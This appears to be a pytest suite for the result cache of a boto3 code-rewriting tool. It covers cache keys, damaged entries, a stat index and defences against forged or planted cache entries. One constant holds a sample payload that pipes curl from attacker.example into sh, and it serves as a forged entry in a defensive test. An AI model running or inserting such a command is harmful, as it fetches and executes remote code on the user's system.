"""The result cache: what makes a hit, what never gets stored, and that it never changes an outcome."""
from __future__ import annotations

import dataclasses
import os
import shutil
from pathlib import Path

import pytest

import rewriter
from rewriter import cache as cache_module
from rewriter import stat_lookup
from rewriter.cache import Entry, ResultCache, default_dir, job_key, tool_fingerprint
from rewriter.engine import FileJob, Status, process_file
from tests.cli_support import HANDLER, LIBRARY, copy_samples, invoke, invoke_json, real_engine  # noqa: F401

NAMES = ("hoist-clients",)
PLANTED = "planted in the cache by the test"


def _job(path: Path, **fields) -> FileJob:
    return FileJob(str(path), path.name, str(path.parent), **fields)


def _entries(cache: ResultCache) -> list[Path]:
    return sorted(p for p in cache.folder.rglob("*") if p.is_file() and not p.name.startswith(".tmp-"))


def _plant(cache: ResultCache, job: FileJob, names: tuple[str, ...] = NAMES) -> str:
    """Replace the stored result of ``job`` by one the engine would never produce: only a hit shows it."""
    key = job_key(job, "python", names, Path(job.path).read_bytes())
    assert cache.get(key) is not None, "the first run stored no entry"
    cache.put(key, Entry("unchanged", [], [("hoist-clients", 1, PLANTED)], "", None))
    return key


def _served(result) -> bool:
    return any(note.message == PLANTED for note in result.notes)


@pytest.fixture
def cache(tmp_path: Path) -> ResultCache:
    return ResultCache(tmp_path / "cache")


@pytest.fixture
def handler(tmp_path: Path) -> Path:
    path = tmp_path / "src" / "app.py"
    path.parent.mkdir()
    path.write_text(HANDLER)
    return path


def test_an_unchanged_file_is_served_from_the_cache(handler: Path, cache: ResultCache) -> None:
    first = process_file(_job(handler), NAMES, cache)
    assert first.status is Status.CHANGED
    assert len(_entries(cache)) == 1
    second = process_file(_job(handler), NAMES, cache)
    assert (second.status, second.changes, second.notes, second.after) == (first.status, first.changes, first.notes, first.after)
    _plant(cache, _job(handler))
    assert _served(process_file(_job(handler), NAMES, cache))


def test_a_cached_change_carries_the_current_bytes_and_place(handler: Path, cache: ResultCache, tmp_path: Path) -> None:
    first = process_file(_job(handler), NAMES, cache)
    other = tmp_path / "elsewhere" / "copy.py"
    other.parent.mkdir()
    other.write_bytes(handler.read_bytes())
    again = process_file(FileJob(str(other), "elsewhere/copy.py", str(tmp_path)), NAMES, cache)
    assert len(_entries(cache)) == 1, "the same bytes at another place are the same entry"
    assert (again.path, again.abspath) == ("elsewhere/copy.py", str(other))
    assert (again.status, again.before, again.after) == (Status.CHANGED, handler.read_bytes(), first.after)


def test_changed_content_is_a_miss(handler: Path, cache: ResultCache) -> None:
    process_file(_job(handler), NAMES, cache)
    _plant(cache, _job(handler))
    handler.write_text(HANDLER + "\n# edited\n")
    result = process_file(_job(handler), NAMES, cache)
    assert not _served(result)
    assert result.status is Status.CHANGED and result.after.endswith(b"# edited\n")


def test_other_codemods_are_a_miss(handler: Path, cache: ResultCache) -> None:
    process_file(_job(handler), NAMES, cache)
    _plant(cache, _job(handler))
    both = process_file(_job(handler), ("hoist-clients", "targeted-imports"), cache)
    assert not _served(both)
    assert both.status is Status.CHANGED
    assert _served(process_file(_job(handler), NAMES, cache))


@pytest.mark.parametrize(
    "fields",
    [{"entry_points": frozenset({"handler"})}, {"entry_points": frozenset()}, {"max_bytes": 123_456}],
    ids=["entry-points", "no-entry-points", "size-limit"],
)
def test_other_job_options_are_a_miss(handler: Path, cache: ResultCache, fields: dict) -> None:
    process_file(_job(handler), NAMES, cache)
    _plant(cache, _job(handler))
    assert not _served(process_file(_job(handler, **fields), NAMES, cache))


def test_any_future_job_field_is_part_of_the_key() -> None:
    """A field added to FileJob later (settings for the codemods) changes the key with no change here."""
    Extended = dataclasses.make_dataclass("Extended", [("options", object, None)], bases=(FileJob,), frozen=True)
    data = b"import boto3\n"

    def key(options) -> str:
        return job_key(Extended("/a/app.py", "app.py", "/a", options=options), "python", NAMES, data)

    assert key({"a": 1, "b": frozenset({"x", "y"})}) == key({"b": frozenset({"y", "x"}), "a": 1})
    assert key({"a": 1}) != key({"a": 2})
    assert key(None) != key({})
    assert key(None) == job_key(Extended("/elsewhere/b.py", "b.py", "/elsewhere"), "python", NAMES, data)


def test_a_new_tool_version_is_a_miss(handler: Path, cache: ResultCache, monkeypatch: pytest.MonkeyPatch) -> None:
    process_file(_job(handler), NAMES, cache)
    _plant(cache, _job(handler))
    before = tool_fingerprint()
    monkeypatch.setattr(rewriter, "__version__", "99.0.0")
    tool_fingerprint.cache_clear()
    try:
        assert tool_fingerprint() != before
        assert not _served(process_file(_job(handler), NAMES, cache))
    finally:
        monkeypatch.undo()
        tool_fingerprint.cache_clear()
    assert _served(process_file(_job(handler), NAMES, cache))


def test_an_edited_codemod_source_is_a_miss(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The version stays 0.1.0 while the code changes during development: the source is in the key too."""
    top = Path(cache_module.__file__).resolve().parent.parent
    fake = tmp_path / "tool"
    for package in cache_module._PACKAGES:
        shutil.copytree(top / package, fake / package, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(cache_module, "__file__", str(fake / "rewriter" / "cache.py"))
    tool_fingerprint.cache_clear()
    try:
        copied = tool_fingerprint()
        with open(fake / "codemods" / "python" / "hoist_clients.py", "a") as source:
            source.write("\n# edited\n")
        tool_fingerprint.cache_clear()
        assert tool_fingerprint() != copied
    finally:
        monkeypatch.undo()
        tool_fingerprint.cache_clear()


@pytest.mark.parametrize(
    "damage",
    [
        lambda raw: raw[: len(raw) // 2],
        lambda raw: b"",
        lambda raw: b"\x00\xff garbage",
        lambda raw: raw.replace(b'"unchanged"', b'"unchangeD"'),
        lambda raw: raw.split(b"\n", 1)[1],
        lambda raw: raw + b"trailing",
    ],
    ids=["truncated", "empty", "garbage", "flipped-byte", "no-digest", "trailing"],
)
def test_a_damaged_entry_is_a_miss_and_is_replaced(handler: Path, cache: ResultCache, damage) -> None:
    clean = process_file(_job(handler), NAMES, cache)
    _plant(cache, _job(handler))
    [entry] = _entries(cache)
    entry.write_bytes(damage(entry.read_bytes()))
    result = process_file(_job(handler), NAMES, cache)
    assert not _served(result)
    assert (result.status, result.after, result.changes) == (clean.status, clean.after, clean.changes)
    assert cache.get(job_key(_job(handler), "python", NAMES, handler.read_bytes())) is not None


@pytest.mark.parametrize(
    "body",
    [
        b'{"key": "%s", "status": "changed"}',
        b'{"key": "other", "status": "unchanged", "changes": [], "notes": [], "reason": "", "after": null}',
        b'{"key": "%s", "status": "unchanged", "changes": [], "notes": [], "reason": "", "after": "not base64!"}',
        b"[1, 2]",
    ],
    ids=["missing-fields", "another-key", "bad-output", "not-an-object"],
)
def test_a_well_formed_but_wrong_entry_is_a_miss(handler: Path, cache: ResultCache, body: bytes) -> None:
    import hashlib

    key = job_key(_job(handler), "python", NAMES, handler.read_bytes())
    body = body.replace(b"%s", key.encode())
    path = cache.folder / key[:2] / key
    path.parent.mkdir(parents=True)
    path.write_bytes(hashlib.sha256(body).hexdigest().encode() + b"\n" + body)
    assert cache.get(key) is None
    assert process_file(_job(handler), NAMES, cache).status is Status.CHANGED


def test_a_cache_folder_that_cannot_be_created_is_no_error(handler: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where the cache folder would go")
    cache = ResultCache(blocker / "cache")
    results = [process_file(_job(handler), NAMES, cache) for _ in range(2)]
    assert [r.status for r in results] == [Status.CHANGED, Status.CHANGED]
    assert not cache.writable
    assert blocker.read_text() == "a file where the cache folder would go"


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_cache_is_read_but_not_written(handler: Path, cache: ResultCache, tmp_path: Path) -> None:
    process_file(_job(handler), NAMES, cache)
    _plant(cache, _job(handler))
    other = tmp_path / "library.py"
    other.write_text(LIBRARY.replace("def load(bucket, key)", "def handler(event, context)"))
    folders = [cache.root, *(p for p in cache.root.rglob("*") if p.is_dir())]
    for folder in folders:
        folder.chmod(0o555)
    try:
        assert _served(process_file(_job(handler), NAMES, cache))
        assert process_file(_job(other), NAMES, cache).status is Status.CHANGED
        assert len(_entries(cache)) == 1
    finally:
        for folder in folders:
            folder.chmod(0o755)


def test_errors_are_not_stored(tmp_path: Path, cache: ResultCache) -> None:
    broken = tmp_path / "broken.py"
    broken.write_text(HANDLER.replace('boto3.client("s3")', 'boto3.client("s3"'))
    assert process_file(_job(broken), NAMES, cache).status is Status.ERROR
    assert _entries(cache) == []


def test_manifests_are_not_stored(tmp_path: Path, cache: ResultCache) -> None:
    """A manifest's result depends on the sources next to it, which are not in the key."""
    root = copy_samples(tmp_path / "repo")
    manifests = [p for p in root.rglob("*") if p.name in ("pom.xml", "requirements.txt", "package.json")]
    assert manifests
    results = [
        process_file(FileJob(str(p), p.relative_to(root).as_posix(), str(root)), ("slim-dependencies",), cache)
        for p in manifests
    ]
    assert any(r.status is Status.CHANGED for r in results)
    assert _entries(cache) == []


def test_trim_removes_the_least_recently_used_first(tmp_path: Path) -> None:
    cache = ResultCache(tmp_path / "cache")
    keys = [f"{i:02x}" + "0" * 62 for i in range(6)]
    for age, key in enumerate(keys):
        cache.put(key, Entry("unchanged", [], [], "", b"x" * 1000 if age else None))
        os.utime(cache.folder / key[:2] / key, ns=(age * 10**9, age * 10**9))
    cache.get(keys[0])  # used just now: kept
    size = sum(p.stat().st_size for p in _entries(cache))
    cache.max_bytes = size // 2
    assert cache.trim() > 0
    left = {p.name for p in _entries(cache)}
    assert keys[0] in left and keys[-1] in left and keys[1] not in left
    assert sum(p.stat().st_size for p in _entries(cache)) <= cache.max_bytes


def test_where_the_cache_lives(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("LAMBDA_REWRITER_CACHE_DIR", str(tmp_path / "explicit"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert default_dir() == tmp_path / "explicit"
    monkeypatch.delenv("LAMBDA_REWRITER_CACHE_DIR")
    assert default_dir() == tmp_path / "xdg" / "lambda-rewriter"
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert default_dir() == tmp_path / "home" / ".cache" / "lambda-rewriter"
    monkeypatch.setenv("LAMBDA_REWRITER_CACHE_MAX_MB", "2")
    assert ResultCache.default().max_bytes == 2 * 1024 * 1024


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_samples_give_the_same_report_with_and_without_the_cache(tmp_path: Path, result_cache_dir: Path, jobs: str) -> None:
    root = copy_samples(tmp_path / "repo")
    command = ["check", "samples", "-j", jobs]
    _, uncached = invoke_json([*command, "--no-cache"], root)
    assert not any(p.is_file() for p in result_cache_dir.rglob("*"))
    _, cold = invoke_json(command, root)
    stored = [p for p in result_cache_dir.rglob("*") if p.is_file()]
    assert stored
    _, warm = invoke_json(command, root)
    assert uncached == cold == warm
    assert uncached["summary"]["changed"] > 0
    entries = result_cache_dir / cache_module.FORMAT  # the stat index may be written by the warm run
    assert sorted(p for p in entries.rglob("*") if p.is_file()) == sorted(p for p in stored if entries in p.parents)


def test_apply_from_cached_results_writes_what_an_uncached_apply_writes(tmp_path: Path) -> None:
    cached_root = copy_samples(tmp_path / "cached")
    plain_root = copy_samples(tmp_path / "plain")
    assert invoke(["check", "samples", "-j", "1"], cached_root).exit_code == 1  # fills the cache
    assert invoke(["apply", "samples", "-j", "1"], cached_root).exit_code == 0
    assert invoke(["apply", "samples", "-j", "1", "--no-cache"], plain_root).exit_code == 0
    for path in (plain_root / "samples").rglob("*"):
        if path.is_file():
            assert (cached_root / path.relative_to(plain_root)).read_bytes() == path.read_bytes(), path
    assert invoke(["check", "samples", "-j", "1"], cached_root).exit_code == 0


def test_apply_leaves_a_file_that_changed_since_it_was_cached_to_a_fresh_analysis(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    app = root / "app.py"
    app.write_text(HANDLER)
    assert invoke(["check", "."], root).exit_code == 1
    app.write_text(HANDLER.replace('"s3"', '"sqs"'))
    assert invoke(["apply", "."], root).exit_code == 0
    assert 'boto3.client("sqs")' in app.read_text() and '"s3"' not in app.read_text()
    assert app.read_text().index('boto3.client("sqs")') < app.read_text().index("def handler")


# The stat index: a file whose stat an earlier run recorded is answered without being read.

_AUDITED_RUN = r"""
import json, sys
from pathlib import Path

root, racy, names, max_bytes = Path(sys.argv[1]), int(sys.argv[2]), tuple(sys.argv[3].split(",")), int(sys.argv[4])
opened = []

def hook(event, args):
    if event == "open" and isinstance(args[0], (str, bytes)):
        path = args[0] if isinstance(args[0], str) else args[0].decode()
        if path.startswith(str(root)) and "/.git/" not in path:
            opened.append(Path(path).relative_to(root).as_posix())

from rewriter import cache
# One fingerprint for every run of a test: the tree's own source may be edited between two runs.
cache.tool_fingerprint = lambda: "pinned by the test"
from rewriter import engine, stat_lookup
from rewriter.cache import ResultCache
from rewriter.plan import plan

stat_lookup.RACY_NS = racy
planned = plan([root])
jobs = [engine.dataclasses.replace(job, max_bytes=max_bytes) for job in planned.jobs]
sys.addaudithook(hook)
results = engine.run(jobs, names, 1, cache=ResultCache.default())
print(json.dumps({
    "opened": sorted(set(opened)),
    "results": {r.path: [r.status.value, [list(c.__dict__.values()) for c in r.changes],
                         [list(n.__dict__.values()) for n in r.notes], r.reason,
                         None if r.after is None else r.after.decode()] for r in results},
}))
"""


def _audited(root: Path, racy_ns: int = 0, names: tuple[str, ...] = NAMES, max_bytes: int = 1_000_000) -> dict:
    """One engine run over ``root`` in a fresh process: its results, and which files below ``root`` it opened."""
    import json
    import subprocess
    import sys

    run = subprocess.run(
        [sys.executable, "-c", _AUDITED_RUN, str(root), str(racy_ns), ",".join(names), str(max_bytes)],
        capture_output=True, check=True, env={**os.environ, "PYTHONPATH": str(Path(rewriter.__file__).parent.parent)},
    )
    return json.loads(run.stdout)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository with a handler the codemod changes, a library it notes, and files no codemod wants."""
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / ".git").mkdir()
    (root / "src" / "app.py").write_text(HANDLER)
    (root / "src" / "lib.py").write_text(LIBRARY)
    (root / "src" / "plain.py").write_text("x = 1\n")
    (root / "src" / "util.py").write_text("def add(a, b):\n    return a + b\n")
    return root


ALL = ["src/app.py", "src/lib.py", "src/plain.py", "src/util.py"]


def test_an_unchanged_file_is_answered_from_the_stat_index_unread(repo: Path) -> None:
    first = _audited(repo)
    assert first["opened"] == ALL
    assert first["results"]["src/app.py"][0] == "changed"
    second = _audited(repo)
    # The changed file is read again (its result needs its bytes: the cache entry is found by content);
    # every other file is answered from the index.
    assert second["opened"] == ["src/app.py"]
    assert second["results"] == first["results"]


def test_a_touched_or_edited_file_is_read_again(repo: Path) -> None:
    first = _audited(repo)
    os.utime(repo / "src" / "plain.py", ns=(1_000_000_000, 1_000_000_000))  # same bytes, another mtime
    (repo / "src" / "util.py").write_text(HANDLER.replace("handler", "other"))
    second = _audited(repo)
    assert second["opened"] == ["src/app.py", "src/plain.py", "src/util.py"]
    assert second["results"]["src/plain.py"] == first["results"]["src/plain.py"]
    assert second["results"]["src/util.py"][0] == "changed", "the edit is seen, not the old result"
    assert _audited(repo)["opened"] == ["src/app.py", "src/util.py"], "recorded again after the new run"


@pytest.mark.parametrize(
    "change", [{"names": ("hoist-clients", "targeted-imports")}, {"max_bytes": 500_000}], ids=["codemods", "option"]
)
def test_other_codemods_or_options_miss_the_stat_index(repo: Path, change: dict) -> None:
    _audited(repo)
    assert _audited(repo)["opened"] == ["src/app.py"]
    assert _audited(repo, **change)["opened"] == ALL
    assert _audited(repo)["opened"] == ["src/app.py"], "the first settings' index is still there"


def test_a_file_written_just_before_the_run_is_not_recorded(repo: Path, result_cache_dir: Path) -> None:
    """git's racy case: an edit within the same clock tick, same size, can leave the stat as it was.

    With the guard (the default two seconds), a file as young as these is not recorded at all, so an edit
    that keeps its size and mtime right after the run is seen whatever the clock's resolution.
    """
    util = repo / "src" / "util.py"

    def recorded() -> list[str]:
        files = {}
        for index in (result_cache_dir / "index-v1").glob("*"):
            files.update(cache_module.json.loads(index.read_bytes().partition(b"\n")[2])["files"])
        return sorted(Path(path).relative_to(repo).as_posix() for path in files)

    util.write_text("#" * 200 + "\n")
    first = _audited(repo, racy_ns=engine_racy_ns())
    assert first["results"]["src/util.py"][0] == "unchanged"
    assert not (result_cache_dir / "index-v1").exists() or recorded() == []
    stat = util.stat()
    edited = HANDLER.replace("handler", "h")
    util.write_text(edited + "#" * (stat.st_size - len(edited)))
    os.utime(util, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert (util.stat().st_size, util.stat().st_mtime_ns) == (stat.st_size, stat.st_mtime_ns)
    second = _audited(repo, racy_ns=engine_racy_ns())
    assert "src/util.py" in second["opened"]
    assert second["results"]["src/util.py"][0] == "changed"
    # Without the guard the same young files are recorded at once (the other tests run that way).
    _audited(repo, racy_ns=0)
    assert recorded() == ALL


def engine_racy_ns() -> int:
    from rewriter import stat_lookup

    return stat_lookup.RACY_NS


def test_a_damaged_stat_index_is_a_miss_and_is_written_again(repo: Path, result_cache_dir: Path) -> None:
    first = _audited(repo)
    [index] = (result_cache_dir / "index-v1").iterdir()
    good = index.read_bytes()
    for damaged in (good[: len(good) // 2], good.replace(b'"status"', b'"statos"'), b"", b"\0" * 40):
        index.write_bytes(damaged)
        again = _audited(repo)
        assert again["opened"] == ALL
        assert again["results"] == first["results"]
        assert _audited(repo)["opened"] == ["src/app.py"]


def test_a_changed_file_whose_cache_entry_went_is_analysed_again(repo: Path, result_cache_dir: Path) -> None:
    first = _audited(repo)
    shutil.rmtree(result_cache_dir / cache_module.FORMAT)  # the index points at an entry no longer there
    second = _audited(repo)
    assert second["results"] == first["results"]
    assert second["results"]["src/app.py"][0] == "changed"


def test_no_cache_writes_no_stat_index(repo: Path, result_cache_dir: Path) -> None:
    invoke(["check", ".", "--no-cache"], repo)
    assert not any(result_cache_dir.iterdir())


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_samples_give_the_same_report_from_the_stat_index(
    tmp_path: Path, result_cache_dir: Path, jobs: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from rewriter import discovery

    monkeypatch.setattr(stat_lookup, "RACY_NS", 0)
    monkeypatch.setattr(discovery._TemplateCache, "RACY_NS", 0)
    root = copy_samples(tmp_path / "repo")
    command = ["check", "samples", "-j", jobs]
    _, uncached = invoke_json([*command, "--no-cache"], root)
    _, cold = invoke_json(command, root)
    [index] = (result_cache_dir / "index-v1").iterdir()
    assert len(list((result_cache_dir / "templates-v1").iterdir())) == 1
    recorded = cache_module.StatIndex.load(ResultCache(result_cache_dir), str(root), _settings(root, index))
    assert len(recorded.files) >= uncached["summary"]["changed"] + uncached["summary"]["unchanged"] - 20
    _, warm = invoke_json(command, root)
    assert uncached == cold == warm
    assert uncached["summary"]["changed"] > 0


def _settings(root: Path, index: Path) -> str:
    import json

    return json.loads(index.read_bytes().partition(b"\n")[2])["settings"]


def test_apply_from_the_stat_index_writes_what_an_uncached_apply_writes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(stat_lookup, "RACY_NS", 0)
    indexed = copy_samples(tmp_path / "indexed")
    plain = copy_samples(tmp_path / "plain")
    assert invoke(["check", "samples", "-j", "1"], indexed).exit_code == 1  # records the index
    assert invoke(["apply", "samples", "-j", "1"], indexed).exit_code == 0  # answered from it
    assert invoke(["apply", "samples", "-j", "1", "--no-cache"], plain).exit_code == 0
    for path in (plain / "samples").rglob("*"):
        if path.is_file():
            assert (indexed / path.relative_to(plain)).read_bytes() == path.read_bytes(), path
    assert invoke(["check", "samples", "-j", "1"], indexed).exit_code == 0


def test_the_cli_names_the_same_on_existing_choices_as_rewriter_git() -> None:
    """cli.py keeps a copy so that `check` does not import GitPython at start-up."""
    from rewriter import cli, git

    assert cli._ON_EXISTING == git.ON_EXISTING


def test_templates_are_read_again_only_when_their_stat_changes(
    tmp_path: Path, result_cache_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from rewriter import discovery

    monkeypatch.setattr(discovery._TemplateCache, "RACY_NS", 0)
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "app.py").write_text(HANDLER)
    template = root / "template.yaml"
    template.write_text("Resources:\n  Fn:\n    Type: AWS::Serverless::Function\n    Properties:\n      Handler: app.handler\n")
    parsed = []
    real_load = discovery.load_template
    monkeypatch.setattr(discovery, "load_template", lambda path: parsed.append(path) or real_load(path))

    def entry_points() -> frozenset[str] | None:
        return discovery.discover([root], cache_dir=result_cache_dir).entry_points.get(root / "app.py")

    assert entry_points() == {"handler"}
    assert entry_points() == {"handler"}
    assert parsed == [template], "the second discovery took what the template declares from the cache"
    assert discovery.discover([root]).entry_points.get(root / "app.py") == {"handler"}  # no cache: parsed
    template.write_text(template.read_text().replace("app.handler", "app.other"))
    assert entry_points() == {"other"}
    assert len(parsed) == 3


# The cache can only save work (issue 16): forged entries, someone else's folder, links inside it.

EVIL = b"import os\n\nos.system('curl https://attacker.example/x | sh')\n"


def _forge(folder: Path, forge) -> list[Path]:
    """Rewrite every stored entry of ``folder`` through ``forge(entry) -> Entry``, sealed as the tool seals them."""
    entries = sorted(p for p in (folder / cache_module.FORMAT).rglob("*") if p.is_file() and len(p.name) == 64)
    assert entries, "the first run stored nothing"
    for path in entries:
        entry = cache_module._decode(path.read_bytes(), path.name)
        path.write_bytes(cache_module._encode(path.name, forge(entry)))
    return entries


def _changed_only(entry: Entry, after: bytes) -> Entry:
    return dataclasses.replace(entry, after=after) if entry.status == "changed" else entry


def _repo_with_handler(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "app.py").write_text(HANDLER)
    return root


def test_cache_a_forged_result_that_passes_verification_is_never_written_by_apply(
    tmp_path: Path, result_cache_dir: Path
) -> None:
    root = _repo_with_handler(tmp_path)
    expected = process_file(_job(root / "app.py"), ()).after
    assert invoke(["check", "."], root).exit_code == 1  # fills the cache
    # Code that parses, compiles, keeps the file's newline style and that a second run leaves alone.
    _forge(result_cache_dir, lambda entry: _changed_only(entry, expected + EVIL))
    result = invoke(["apply", "."], root)
    assert result.exit_code == 0, result.output
    assert (root / "app.py").read_bytes() == expected
    # The fresh result replaced the forged one.
    assert invoke(["check", "."], root).exit_code == 0


@pytest.mark.parametrize(
    "forged",
    [
        pytest.param(lambda after: after + b"def broken(:\n", id="does-not-parse"),
        pytest.param(lambda after: after.replace(b"\n", b"\r\n"), id="line-endings"),
        pytest.param(lambda after: after.rstrip(b"\n"), id="final-newline"),
        pytest.param(lambda after: b"\xef\xbb\xbf" + after, id="byte-order-mark"),
        pytest.param(lambda after: after + b'\n\ndef again(event, context):\n    c = boto3.client("sqs")\n', id="not-idempotent"),
    ],
)
def test_cache_a_forged_result_that_fails_verification_is_not_shown(
    tmp_path: Path, result_cache_dir: Path, forged
) -> None:
    root = _repo_with_handler(tmp_path)
    fresh = invoke(["diff", "--no-cache", "."], root).stdout
    assert invoke(["diff", "."], root).stdout == fresh  # fills the cache
    _forge(result_cache_dir, lambda entry: _changed_only(entry, forged(entry.after)))
    result = invoke(["diff", "."], root)
    assert result.exit_code == 0 and result.stdout == fresh


def test_cache_check_serves_a_stored_rewrite_without_verifying_the_code_it_never_shows(
    tmp_path: Path, result_cache_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from rewriter import engine

    root = _repo_with_handler(tmp_path)
    fresh = invoke(["check", "--format", "json", "-j", "1", "."], root)
    assert fresh.exit_code == 1
    verified: list[str] = []
    real_verify = engine.verify
    monkeypatch.setattr(engine, "verify", lambda path, *args: (verified.append(path), real_verify(path, *args))[1])
    warm = invoke(["check", "--format", "json", "-j", "1", "."], root)
    assert warm.exit_code == 1 and warm.stdout == fresh.stdout
    assert verified == [], "check reports the entry's findings: the rewritten code was not parsed again"
    # diff shows the code: the same entry is verified before it is shown.
    assert invoke(["diff", "-j", "1", "."], root).exit_code == 0
    assert verified == ["app.py"]


def _forge_unchanged(entry: Entry) -> Entry:
    return Entry("unchanged", [], [], "", None)


def _unsafe(folder: Path, how: str) -> None:
    if how == "group-writable":
        folder.chmod(0o770)
    elif how == "world-writable":
        folder.chmod(0o1777)
    elif how == "subfolder-world-writable":
        (folder / cache_module.FORMAT).chmod(0o777)
    elif how == "another-owner":
        if os.geteuid() != 0:
            pytest.skip("only root can give a folder to someone else")
        os.chown(folder, 12345, 12345)


@pytest.mark.parametrize("how", ["group-writable", "world-writable", "subfolder-world-writable", "another-owner"])
def test_cache_a_folder_others_could_have_planted_results_in_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    shared = tmp_path / "shared-volume" / "cache"
    monkeypatch.setenv("LAMBDA_REWRITER_CACHE_DIR", str(shared))
    root = _repo_with_handler(tmp_path)
    assert invoke(["check", "."], root).exit_code == 1
    _forge(shared, _forge_unchanged)  # would hide the finding: the CI check goes green
    assert invoke(["check", "."], root).exit_code == 0, "the forged entry is served from a private folder"
    _unsafe(shared, how)
    stored = sorted(p for p in shared.rglob("*"))
    result = invoke(["check", "."], root)
    assert result.exit_code == 1, result.output
    [warning] = [line for line in result.stderr.splitlines() if "warning" in line]
    assert "result cache not used" in warning and str(shared) in warning and "running without it" in warning
    assert sorted(p for p in shared.rglob("*")) == stored  # nor written


def test_cache_a_new_folder_and_its_parents_are_made_for_this_user_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "home" / ".cache" / "lambda-rewriter"
    monkeypatch.setenv("LAMBDA_REWRITER_CACHE_DIR", str(folder))
    root = _repo_with_handler(tmp_path)
    result = invoke(["check", "."], root)
    assert result.exit_code == 1 and "warning" not in result.stderr
    for made in (folder, folder.parent, folder.parent.parent):
        assert os.stat(made).st_mode & 0o777 == 0o700, made
    assert ResultCache(folder).refusal() is None


def test_cache_trim_never_follows_a_link(tmp_path: Path) -> None:
    cache = ResultCache(tmp_path / "cache")
    for i in range(3):
        cache.put(f"{i:02x}" + "0" * 62, Entry("unchanged", [], [], "", b"x" * 1000))
    victims = tmp_path / "victims"
    victims.mkdir()
    precious = {"a" * 64: b"thesis", "b" * 64: b"photos", "notes.txt": b"keep"}
    for name, data in precious.items():
        (victims / name).write_bytes(data)
    (cache.folder / "ff").symlink_to(victims, target_is_directory=True)  # a shard that is a link
    (cache.folder / "00" / ("c" * 64)).symlink_to(victims / ("a" * 64))  # an entry that is a link
    cache.max_bytes = 0
    assert cache.trim() == 3
    assert {p.name: p.read_bytes() for p in victims.iterdir()} == precious
    assert [p.name for p in _entries(cache)] == ["c" * 64]  # the link, left as it is
    # The same when the entries folder itself is a link.
    moved = tmp_path / "cache2"
    (moved / cache_module.FORMAT).parent.mkdir()
    (moved / cache_module.FORMAT).symlink_to(victims, target_is_directory=True)
    assert ResultCache(moved, max_bytes=0).trim() == 0
    assert {p.name: p.read_bytes() for p in victims.iterdir()} == precious


def test_cache_an_entry_that_is_a_link_or_someone_elses_is_a_miss(handler: Path, cache: ResultCache) -> None:
    process_file(_job(handler), NAMES, cache)
    key = _plant(cache, _job(handler))
    path = cache.folder / key[:2] / key
    elsewhere = path.parent.parent / "elsewhere"
    path.rename(elsewhere)
    path.symlink_to(elsewhere)
    assert cache.get(key) is None
    assert not _served(process_file(_job(handler), NAMES, cache))
    if os.geteuid() == 0:
        _plant(cache, _job(handler))
        os.chown(path, 12345, 12345)
        assert cache.get(key) is None
